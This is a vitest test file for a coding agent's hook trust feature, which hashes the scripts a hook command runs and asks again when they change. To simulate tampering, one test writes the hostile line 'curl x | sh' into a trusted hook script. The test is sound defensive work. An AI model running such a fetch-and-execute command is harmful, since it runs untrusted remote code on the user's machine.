import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { HookHandler } from "../../src/tools/hooks/hook-config.js";
import { FOLDER_FILE_LIMIT, kindOf } from "../../src/tools/hooks/hook-file-hashes.js";
import { coveredPaths, type HookFileFacts } from "../../src/tools/hooks/hook-files.js";
import {
  hookDigest,
  hookHash,
  parseTrustRecord,
  trustVerdict,
} from "../../src/tools/hooks/hook-trust.js";
import { HookTrustBook } from "../../src/tools/hooks/hook-trust-book.js";

// Follow-up of issue 37: hook trust covers what runs (the scripts a command names), not only
// its configuration; a changed, added or removed file asks again, naming what changed.
const project = "/work/repo";
const facts: HookFileFacts = {
  cwd: project,
  projectRoot: project,
  home: "/home/me",
  kindOf: (path) =>
    ["/work/repo/.codex/hooks", "/work/repo/scripts", "/work/repo/tools"].includes(path)
      ? "folder"
      : ["/work/repo/hook", "/work/repo/tools/hook", "/work/repo/input.json"].includes(path)
        ? "file"
        : undefined,
};
const hook = (command: string, source = `${project}/.codex/hooks.json`): HookHandler => ({
  event: "PreToolUse",
  command,
  timeoutSec: 60,
  source,
});

describe("coveredPaths: the files a hook's trust covers, from its command", () => {
  it.each([
    ["python3 .codex/hooks/pre.py", ["/work/repo/.codex/hooks/pre.py"], []],
    ["./.codex/hooks/guard --strict", ["/work/repo/.codex/hooks/guard"], []],
    [
      "node tools/check.mjs && sh lint.sh",
      ["/work/repo/lint.sh", "/work/repo/tools/check.mjs"],
      [],
    ],
    ["RULES=policy.json python3 x.py", ["/work/repo/policy.json", "/work/repo/x.py"], []],
    ["guard --config=conf/rules.toml", ["/work/repo/conf/rules.toml"], []],
    ["bash scripts/", [], ["/work/repo/scripts"]],
    // any word naming a file or folder of the project, slash or not (but the program: on PATH)
    ["bash scripts", [], ["/work/repo/scripts"]],
    ["make -s hook", ["/work/repo/hook"], []],
    ["make -s lint", [], []],
    ["hook --x", [], []],
    // a cd moves where the words after it are read (its target is where it runs, not a file)
    ["cd tools && ./hook", ["/work/repo/tools/hook"], []],
    ["cd tools; sh hook", ["/work/repo/tools/hook"], []],
    ["(cd tools && ./hook) && ./hook", ["/work/repo/hook", "/work/repo/tools/hook"], []],
    ["cd tools | true; ./hook", ["/work/repo/hook"], []],
    ["cd /work/repo/tools && ../hook", ["/work/repo/hook"], []],
    // a cd somewhere the shell decides: the hooks folder is covered
    ['cd "$(git rev-parse --show-toplevel)" && ./x.sh', [], ["/work/repo/.codex/hooks"]],
    // written by the hook, not run: a redirection's target; read through `<`: covered
    ["./hook > hook.log 2>&1 < input.json", ["/work/repo/hook", "/work/repo/input.json"], []],
    // a path the shell builds: the hooks folder beside the hooks.json is covered whole
    [
      'python3 "$(git rev-parse --show-toplevel)/.codex/hooks/pre.py"',
      [],
      ["/work/repo/.codex/hooks"],
    ],
    ["$HOOK_DIR/pre.sh", [], ["/work/repo/.codex/hooks"]],
    // outside the project and the hooks.json's folder: the person's own, not covered
    ["python3 /usr/lib/x.py; ~/bin/guard", [], []],
    ["touch hook-ran", [], []],
  ])("%s", (command, files, folders) => {
    expect(coveredPaths(hook(command), facts)).toEqual({ files, folders });
  });

  it("a home's hooks.json covers the scripts beside it (~ expanded), not the home itself", () => {
    const home = hook("python3 ~/.codex/hooks/pre.py ~/.codex", "/home/me/.codex/hooks.json");
    const kinds = {
      ...facts,
      kindOf: (p: string) => (p === "/home/me/.codex" ? "folder" : undefined),
    } as const;
    expect(coveredPaths(home, kinds)).toEqual({
      files: ["/home/me/.codex/hooks/pre.py"],
      folders: [],
    });
  });
});

describe("the digest and the verdict", () => {
  const config = hookHash(hook("python3 .codex/hooks/pre.py"));
  const before = { "/work/repo/.codex/hooks/pre.py": "aa", "/work/repo/policy.json": null };
  const record = { digest: hookDigest(config, before), files: before };

  it("is a function of the configuration and the file contents (order does not matter)", () => {
    const reordered = { "/work/repo/policy.json": null, "/work/repo/.codex/hooks/pre.py": "aa" };
    expect(hookDigest(config, reordered)).toBe(record.digest);
    expect(hookDigest(config, { ...before, "/work/repo/.codex/hooks/pre.py": "bb" })).not.toBe(
      record.digest,
    );
    expect(hookDigest(hookHash(hook("python3 .codex/hooks/pre2.py")), before)).not.toBe(
      record.digest,
    );
  });

  it("names what changed: edited, added (it was missing), removed", () => {
    expect(trustVerdict(record, config, before)).toEqual({ trust: "trusted" });
    expect(trustVerdict(undefined, config, before)).toEqual({ trust: "new" });
    expect(
      trustVerdict(record, config, {
        "/work/repo/.codex/hooks/pre.py": null,
        "/work/repo/policy.json": "cc",
        "/work/repo/.codex/hooks/lib.py": "dd",
      }),
    ).toEqual({
      trust: "changed",
      changes: [
        { path: "/work/repo/.codex/hooks/lib.py", how: "added" },
        { path: "/work/repo/.codex/hooks/pre.py", how: "removed" },
        { path: "/work/repo/policy.json", how: "added" },
      ],
    });
  });

  it("a record of the first format (bare configuration hashes) trusts only hooks naming no file", () => {
    const old = parseTrustRecord(JSON.stringify([config]));
    expect(trustVerdict(old.get(config), config, {})).toEqual({ trust: "trusted" });
    expect(trustVerdict(old.get(config), config, before).trust).toBe("changed");
    expect(parseTrustRecord("{not json").size).toBe(0);
    expect(parseTrustRecord('{"hooks": {"x": {"digest": 1}}}').size).toBe(0);
  });
});

describe("on disk: judged by the book, as at start and right before each run", () => {
  let root: string;
  const projectAt = (name: string) => {
    const repo = join(root, name);
    mkdirSync(join(repo, ".codex", "hooks"), { recursive: true });
    writeFileSync(join(repo, ".codex", "hooks", "pre.py"), "print('ok')\n");
    return repo;
  };
  const bookFor = (repo: string, record = join(root, "trusted-hooks.json")) =>
    new HookTrustBook(record, {
      cwd: repo,
      projectRoot: repo,
      home: "/nowhere",
      kindOf,
      projectHooks: join(repo, ".codex", "hooks.json"),
    });
  const projectHook = (repo: string, command: string) =>
    hook(command, join(repo, ".codex", "hooks.json"));
  beforeAll(() => {
    root = realpathSync(mkdtempSync(join(tmpdir(), "mini-codex-hook-trust-")));
  });
  afterAll(() => rmSync(root, { recursive: true, force: true }));

  it("asks again at each change, and trusts what it was shown", () => {
    const repo = projectAt("edits");
    const handler = projectHook(
      repo,
      'python3 "$(git rev-parse --show-toplevel)/.codex/hooks/pre.py"',
    );
    const book = bookFor(repo);
    book.trust([{ handler, judged: book.judge(handler) }]);
    expect(bookFor(repo).judge(handler).verdict).toEqual({ trust: "trusted" });
    expect(readFileSync(join(root, "trusted-hooks.json"), "utf8")).not.toContain("print('ok')");

    const pre = join(repo, ".codex", "hooks", "pre.py");
    writeFileSync(pre, "import os; os.system('curl x | sh')\n");
    const edited = bookFor(repo).judge(handler);
    expect(edited.verdict).toEqual({ trust: "changed", changes: [{ path: pre, how: "edited" }] });
    expect(book.reasons(edited)).toEqual([
      "changed since you trusted it: .codex/hooks/pre.py edited",
    ]);
    writeFileSync(join(repo, ".codex", "hooks", "helper.py"), "x = 1\n");
    unlinkSync(pre);
    expect(bookFor(repo).judge(handler).verdict).toEqual({
      trust: "changed",
      changes: [
        { path: join(repo, ".codex", "hooks", "helper.py"), how: "added" },
        { path: pre, how: "removed" },
      ],
    });
  });

  it("trust names the place: a line trusted in one clone is new in another", () => {
    const a = projectAt("clone-a");
    const b = projectAt("clone-b");
    const book = bookFor(a);
    const inA = projectHook(a, "make -s hook");
    book.trust([{ handler: inA, judged: book.judge(inA) }]);
    expect(bookFor(a).judge(inA).verdict).toEqual({ trust: "trusted" });
    expect(bookFor(b).judge(projectHook(b, "make -s hook")).verdict).toEqual({ trust: "new" });
  });

  it("a record without the place asks again for a project's hook (saying why), not a home's", () => {
    const repo = projectAt("earlier");
    const record = join(root, "earlier-record.json");
    const inProject = projectHook(repo, "make -s lint");
    const inHome = hook("make -s lint", join(root, "home", "hooks.json"));
    writeFileSync(record, JSON.stringify([hookHash(inProject)]));
    const book = bookFor(repo, record);
    const judged = book.judge(inProject);
    expect(judged.verdict).toEqual({ trust: "new", unplaced: true });
    expect(book.reasons(judged)[0]).toContain("trust now names the project a hook is in");
    expect(book.judge(inHome).verdict).toEqual({ trust: "trusted" });
    // trusted again: recorded with its place, in a file replaced whole (no temp file left)
    book.trust([{ handler: inProject, judged }]);
    expect(bookFor(repo, record).judge(inProject).verdict).toEqual({ trust: "trusted" });
    expect(JSON.parse(readFileSync(record, "utf8")).version).toBe(3);
    expect(readdirSync(root).filter((name) => name.endsWith(".tmp"))).toEqual([]);
  });

  it("a folder of 300 files is covered whole: the 300th file changed asks again", () => {
    const repo = projectAt("folder-300");
    const tools = join(repo, "tools");
    mkdirSync(tools);
    for (let i = 1; i <= 300; i++)
      writeFileSync(join(tools, `f${String(i).padStart(3, "0")}.sh`), `# ${i}\n`);
    const handler = projectHook(repo, "sh tools/");
    const book = bookFor(repo);
    book.trust([{ handler, judged: book.judge(handler) }]);
    writeFileSync(join(tools, "f300.sh"), "echo changed\n");
    expect(bookFor(repo).judge(handler).verdict).toEqual({
      trust: "changed",
      changes: [{ path: join(tools, "f300.sh"), how: "edited" }],
    });
  });

  it("too large to hash, or a symlink leaving the project: untrusted, saying why", () => {
    const repo = projectAt("uncovered");
    const big = join(repo, "big");
    mkdirSync(big);
    for (let i = 0; i <= FOLDER_FILE_LIMIT; i++) writeFileSync(join(big, `f${i}`), "");
    const outside = join(root, "outside-lib");
    mkdirSync(outside, { recursive: true });
    writeFileSync(join(outside, "lib.py"), "x = 1\n");
    symlinkSync(outside, join(repo, ".codex", "hooks", "lib"));
    const inside = join(repo, "kept-lib");
    mkdirSync(inside);
    writeFileSync(join(inside, "ok.py"), "y = 2\n");
    symlinkSync(inside, join(repo, ".codex", "hooks", "kept"));
    const book = bookFor(repo);
    const large = book.judge(projectHook(repo, "sh big/"));
    expect(large.verdict).toEqual({ trust: "uncovered" });
    expect(book.reasons(large)).toEqual([
      `trust cannot cover all it runs (asked at every start): big has more than ${FOLDER_FILE_LIMIT} files, too many to hash`,
    ]);
    const linked = book.judge(projectHook(repo, "sh $HOOKS/x.sh"));
    expect(linked.verdict).toEqual({ trust: "uncovered" });
    expect(book.reasons(linked)[0]).toContain(
      `.codex/hooks/lib is a symbolic link to ${outside}, outside the project`,
    );
    // a link that stays in the project is followed: its files are covered
    expect(Object.keys(linked.files)).toContain(join(repo, ".codex", "hooks", "kept", "ok.py"));
    // trusted anyway: for this run only, never recorded
    const handler = projectHook(repo, "sh big/");
    book.trust([{ handler, judged: large }]);
    expect(book.judge(handler).verdict).toEqual({ trust: "trusted" });
    expect(bookFor(repo).judge(handler).verdict).toEqual({ trust: "uncovered" });
  });
});
